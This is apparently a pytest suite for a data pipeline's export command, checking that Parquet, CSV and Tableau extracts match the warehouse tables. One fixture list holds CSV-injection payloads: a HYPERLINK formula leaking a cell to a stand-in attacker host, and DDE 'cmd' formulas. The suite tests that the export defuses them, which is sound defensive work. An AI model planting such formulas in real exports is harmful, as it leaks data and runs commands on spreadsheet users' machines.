"""`spotiflow export`: every mart as Parquet, CSV or a Tableau extract, equal to the marts."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest

from spotiflow.cli import main
from spotiflow.serve.export import HYPER_FILE, HYPER_SCHEMA, mart_names
from spotiflow.settings import Settings
from spotiflow.warehouse.duckdb_file import connect
from tests.support.helpers import make_settings, query


@pytest.fixture(scope="module")
def marts(demo_settings: Settings) -> dict[str, int]:
    names = mart_names(demo_settings)
    return {
        name: query(demo_settings, f"select count(*) from marts.{name}")[0][0] for name in names
    }


def _export(settings: Settings, file_format: str, out: Path, monkeypatch) -> None:
    monkeypatch.setenv("SPOTIFLOW_DATA_DIR", str(settings.data_dir))
    assert main(["export", "--format", file_format, "--out", str(out)]) == 0


def test_parquet_export_equals_every_mart(
    demo_settings: Settings, marts: dict[str, int], tmp_path: Path, monkeypatch
) -> None:
    _export(demo_settings, "parquet", tmp_path, monkeypatch)
    assert sorted(p.stem for p in tmp_path.glob("*.parquet")) == sorted(marts)
    assert not list(tmp_path.glob(".*"))  # no temporary file left behind
    with connect(demo_settings) as warehouse:
        for mart in marts:
            exported = f"read_parquet('{tmp_path / (mart + '.parquet')}')"
            for left, right in ((f"marts.{mart}", exported), (exported, f"marts.{mart}")):
                [(different,)] = warehouse.execute(
                    f"select count(*) from (select * from {left} except all select * from {right})"
                ).fetchall()
                assert different == 0, mart


def test_csv_export_has_every_row_and_column(
    demo_settings: Settings, marts: dict[str, int], tmp_path: Path, monkeypatch
) -> None:
    _export(demo_settings, "csv", tmp_path, monkeypatch)
    for mart, rows in marts.items():
        with (tmp_path / f"{mart}.csv").open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader)
            assert sum(1 for _ in reader) == rows, mart
        columns = query(
            demo_settings,
            "select column_name from information_schema.columns where table_schema = 'marts' "
            "and table_name = ? order by ordinal_position",
            [mart],
        )
        assert header == [name for (name,) in columns]


def test_hyper_export_holds_every_mart_as_a_table(
    demo_settings: Settings, marts: dict[str, int], tmp_path: Path, monkeypatch
) -> None:
    from tableauhyperapi import Connection, HyperProcess, SqlType, TableName, Telemetry

    _export(demo_settings, "hyper", tmp_path, monkeypatch)
    assert [p.name for p in tmp_path.iterdir() if not p.name.endswith(".log")] == [HYPER_FILE]
    [(plays, minutes)] = query(
        demo_settings, "select sum(plays), sum(minutes_listened) from marts.fct_daily_listening"
    )
    logs = {"log_dir": str(tmp_path)}
    with (
        HyperProcess(Telemetry.DO_NOT_SEND_USAGE_DATA_TO_TABLEAU, parameters=logs) as hyper,
        Connection(hyper.endpoint, str(tmp_path / HYPER_FILE)) as extract,
    ):
        tables = {
            name.name.unescaped: name for name in extract.catalog.get_table_names(HYPER_SCHEMA)
        }
        assert sorted(tables) == sorted(marts)
        for mart, rows in marts.items():
            assert extract.execute_scalar_query(f"select count(*) from {tables[mart]}") == rows
        daily = TableName(HYPER_SCHEMA, "fct_daily_listening")
        totals = extract.execute_list_query(
            f"select sum(plays), sum(minutes_listened) from {daily}"
        )[0]
        assert totals[0] == plays and totals[1] == pytest.approx(minutes, rel=1e-12)
        definition = extract.catalog.get_table_definition(daily)
        types = {column.name.unescaped: column.type for column in definition.columns}
        assert types["listen_date"] == SqlType.date()
        assert types["plays"] == SqlType.big_int()
        assert types["minutes_listened"] == SqlType.double()
        assert types["listening_vibe"] == SqlType.text()


def test_export_without_a_warehouse_says_what_to_do(settings: Settings, capsys) -> None:
    assert main(["export", "--format", "csv"]) != 0
    assert "run `spotiflow build` first" in capsys.readouterr().err


def test_the_exports_exposure_reads_every_mart(demo_settings: Settings) -> None:
    import json

    from tests.support.helpers import demo_artifacts

    manifest = json.loads((demo_artifacts(demo_settings) / "manifest.json").read_text("utf-8"))
    marts = {
        node_id
        for node_id, node in manifest["nodes"].items()
        if node["resource_type"] == "model"
        and node["original_file_path"].startswith("models/marts/")
    }
    exposure = manifest["exposures"]["exposure.spotiflow.bi_exports"]
    assert set(exposure["depends_on"]["nodes"]) == marts


# Names a spreadsheet would run as formulas (OWASP's CSV injection), as third parties may send.
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/leak?"&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Plain name", "a=b", "O'Brien", None]


@pytest.fixture
def hostile_settings(tmp_path: Path) -> Settings:
    """A warehouse whose mart holds hostile names beside negative numbers and a date."""
    settings = make_settings(tmp_path / "data")
    settings.data_dir.mkdir(parents=True)
    names = FORMULAS + HARMLESS
    with duckdb.connect(str(settings.warehouse_path)) as warehouse:
        warehouse.execute("create schema marts")
        warehouse.execute(
            "create table marts.dim_names (track_name varchar, difference double, "
            "plays bigint, listen_date date)"
        )
        warehouse.executemany(
            "insert into marts.dim_names values (?, ?, ?, date '2024-04-01')",
            [[name, -0.25 - i, -i] for i, name in enumerate(names)],
        )
    return settings


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


def test_csv_export_defuses_formulas_in_text_only(
    hostile_settings: Settings, tmp_path: Path, monkeypatch
) -> None:
    _export(hostile_settings, "csv", tmp_path / "csv", monkeypatch)
    rows = _csv_rows(tmp_path / "csv" / "dim_names.csv")
    names = FORMULAS + HARMLESS
    assert [row[0] for row in rows] == ["'" + name for name in FORMULAS] + [
        name or "" for name in HARMLESS
    ]
    # Numbers stay numbers, however they start; dates as dates.
    assert [row[1:] for row in rows] == [
        [repr(-0.25 - i), str(-i), "2024-04-01"] for i in range(len(names))
    ]


def test_raw_csv_and_parquet_keep_names_as_they_are(
    hostile_settings: Settings, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setenv("SPOTIFLOW_DATA_DIR", str(hostile_settings.data_dir))
    assert main(["export", "--format", "csv", "--raw", "--out", str(tmp_path / "raw")]) == 0
    names = FORMULAS + HARMLESS
    rows = _csv_rows(tmp_path / "raw" / "dim_names.csv")
    assert [row[0] for row in rows] == [name or "" for name in names]
    _export(hostile_settings, "parquet", tmp_path / "parquet", monkeypatch)
    with duckdb.connect() as reader:
        exported = reader.execute(
            f"select track_name from read_parquet('{tmp_path / 'parquet' / 'dim_names.parquet'}')"
        ).fetchall()
    assert [name for (name,) in exported] == names
